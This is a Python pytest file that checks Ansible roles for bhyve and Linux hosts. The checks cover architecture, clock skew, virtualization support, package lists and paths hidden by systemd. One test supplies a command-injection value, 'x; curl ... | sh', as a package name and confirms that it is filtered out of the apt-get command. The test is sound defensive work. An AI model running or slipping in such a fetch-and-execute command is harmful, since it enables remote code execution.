# SPDX-License-Identifier: BSD-2-Clause
# ruff: noqa: S108 - the paths are texts, and nothing is made there
"""What roles refuse by what a machine has said: each refusal begins with its reason, and ends with a remedy."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from shai_operator.providers.process import COLLECTION

if TYPE_CHECKING:
    from collections.abc import Sequence

_ROLES = COLLECTION / "roles"
_SYSTEM = ("bhyve_host", "check.yml", "Check the host's system and processor")
_VMM = ("bhyve_host", "programs.yml", "Check that the processor can run virtual machines")
_CLOCK = ("freebsd_guest", "clock.yml", "Check the guest's clock")
_HOST_CLOCK = ("linux_host", "main.yml", "Check the host's clock")
_HIDDEN = ("linux_member", "hidden.yml", "Check that the services see what they are given")
_PROGRAMS = ("linux_host", "main.yml", "Check that the host has all programs")


def checked(place: Path, check: tuple[str, str, str], cases: Sequence[dict[str, Any]]) -> list[tuple[bool, str]]:
    """Run one task of a role in each case, on what earlier ones have registered there.

    Return for each whether it passes, and the output. One run does all of them, each as a host: most of a run's time is
    its start.
    """
    role, file, name = check
    tasks = yaml.safe_load((_ROLES / role / "tasks" / file).read_text())
    tasks += [inner for outer in tasks for inner in outer.get("block", ())]
    task = next(task for task in tasks if task["name"] == name)
    files = [_ROLES / role / folder / "main.yml" for folder in ("defaults", "vars")]
    known = {"ansible_connection": "local"}
    for path in files:
        known |= yaml.safe_load(path.read_text()) if path.exists() else {}
    hosts = {f"case-{number}": case for number, case in enumerate(cases)}
    (place / "inventory.json").write_text(json.dumps({"all": {"hosts": hosts, "vars": known}}))
    (place / "play.yml").write_text(json.dumps([{"hosts": "all", "gather_facts": False, "tasks": [task]}]))
    done = subprocess.run(
        [Path(sys.executable).parent / "ansible-playbook", "--inventory", place / "inventory.json",
         place / "play.yml"],
        env={**os.environ, "ANSIBLE_HOME": str(place), "NO_COLOR": "1"},
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    failed = dict(re.findall(r"^(case-\d+) .* failed=(\d+) ", done.stdout, re.MULTILINE))
    assert failed.keys() == hosts.keys(), done.stdout + done.stderr
    lines = done.stdout.splitlines()
    return [(failed[host] == "0", " ".join(line for line in lines if f"[{host}]" in line)) for host in hosts]


def test_hosts_that_cannot_run_the_image_are_named(tmp_path: Path) -> None:
    tests = [
        (["FreeBSD", "amd64", "bootrom"], ""),
        (
            ["FreeBSD", "aarch64", "bootrom"],
            "ArchitectureMismatch: the image is for amd64, and the host is aarch64: choose",
        ),
        (
            ["Linux", "amd64", "bootrom"],
            "NoVirtualization: the host runs Linux, and bhyve is a part of FreeBSD: choose",
        ),
        (["FreeBSD", "amd64"], "NoVirtualization: the host has no boot ROM /rom: install it (pkg install edk2-bhyve)"),
    ]
    rest = {"bhyve_host_image": {"architecture": "amd64"}, "bhyve_host_bootrom": "/rom"}
    cases = [{"bhyve_host_found": {"stdout_lines": said}, **rest} for said, _ in tests]
    for (_, wanted), (passed, printed) in zip(tests, checked(tmp_path, _SYSTEM, cases), strict=True):
        assert (passed, wanted in printed) == (not wanted, True), printed


@pytest.mark.parametrize(("check", "role"), [(_CLOCK, "freebsd_guest"), (_HOST_CLOCK, "linux_host")])
def test_a_clock_that_is_wrong_is_named(tmp_path: Path, check: tuple[str, str, str], role: str) -> None:
    """The limit is far from what the run itself takes."""
    now = int(subprocess.run(["date", "+%s"], capture_output=True, text=True, check=True).stdout)
    said = [{f"{role}_time": {"stdout": str(now - behind)}} for behind in (0, -100_000, 3600)]
    right, *wrong = checked(tmp_path, check, said)
    assert right[0], right
    for passed, printed in wrong:
        assert not passed, printed
        assert re.search(r"ClockSkew: the (host|guest)'s clock differs from the operator's by more than 300 s", printed)
        assert re.search(r"set the (clock of the host|wrong one), and .* time server", printed)


def test_a_host_without_virtualization_is_named(tmp_path: Path) -> None:
    said = {"rc": 1, "stdout": "kldload: can't load vmm\nvmm: processor does not support desired features"}
    loaded = {"rc": 0, "stdout": "loaded"}
    (passed, printed), good = checked(tmp_path, _VMM, [{"bhyve_host_vmm": said}, {"bhyve_host_vmm": loaded}])
    assert (passed, good[0]) == (False, True), good
    assert "NoVirtualization: the module vmm does not start on this host, which says: kldload: can't load" in printed
    assert "switched on in the firmware" in printed


def test_only_packages_that_were_asked_about_are_in_the_command(tmp_path: Path) -> None:
    tests = [
        (["image"], ""),
        (
            ["util-linux", "supervisor", "redis-tools", "redis-server", "openssl"],
            "openssl redis-server redis-tools supervisor util-linux",
        ),
        (["openssl", "x; curl http://192.0.2.1/ | sh", "image"], "openssl"),
        (["x; curl http://192.0.2.1/ | sh"], ""),
    ]
    results = checked(tmp_path, _PROGRAMS, [{"linux_host_lacking": {"stdout_lines": said}} for said, _ in tests])
    for (_, named), (passed, printed) in zip(tests, results, strict=True):
        assert (passed, "curl" in printed) == (not named, False), printed
        assert not named or f"(apt-get install --no-install-recommends {named})" in printed


def test_every_package_that_is_asked_about_can_be_named() -> None:
    asked = re.findall(
        r"lacks \S+ (\S+)$|\|\| echo (\S+)$", (_ROLES / "linux_host/tasks/main.yml").read_text(), re.MULTILINE
    )
    named = yaml.safe_load((_ROLES / "linux_host/vars/main.yml").read_text())["linux_host_packages"]
    assert {"".join(words) for words in asked} - {"image"} == set(named)


_SEEN = {
    "linux_member_name": "web-0",
    "linux_member_pool_directory": "/srv/shai",
    "linux_member_image_digest": "a",
    "linux_member_runtimes": [{"name": "a", "paths": ["/tmpfiles", "/srv/tmp", "$(IMAGE)/tmp", "$(TOOLS)/bin"]}],
    "linux_member_variables": [{"name": "OTHER", "value": "/tmp/x"}, {"name": "TOOLS", "value": "/srv/tools"}],
    "linux_member_sources": ["https://a.example/tmp/", "unix:/run/x.sock"],
}
_UNSEEN = {
    "linux_member_pool_directory": "/tmp/shai",
    "linux_member_runtimes": [{"name": "a", "paths": ["/usr/lib", "/var/tmp", "$(TOOLS)/bin"]}],
    "linux_member_variables": [{"name": "TOOLS", "value": "/tmp/tools"}],
    "linux_member_sources": ["unix:/var/tmp/x.sock"],
}
_NAMED = "/tmp/shai/web-0, /tmp/shai/web-0/data, /var/tmp, /tmp/tools, /var/tmp/x.sock: services of this host have a"


def test_what_systemd_would_hide_from_a_member_is_named(tmp_path: Path) -> None:
    """Where supervisord runs the services, they see it: test_local.py has members there."""
    systemd = {"linux_member_systemd": {"stat": {"exists": True}}}
    cases = [{**_SEEN, **given, **systemd} for given in ({}, _UNSEEN)]
    for named, (passed, printed) in zip(("", _NAMED), checked(tmp_path, _HIDDEN, cases), strict=True):
        assert (passed, named in printed) == (not named, True), printed
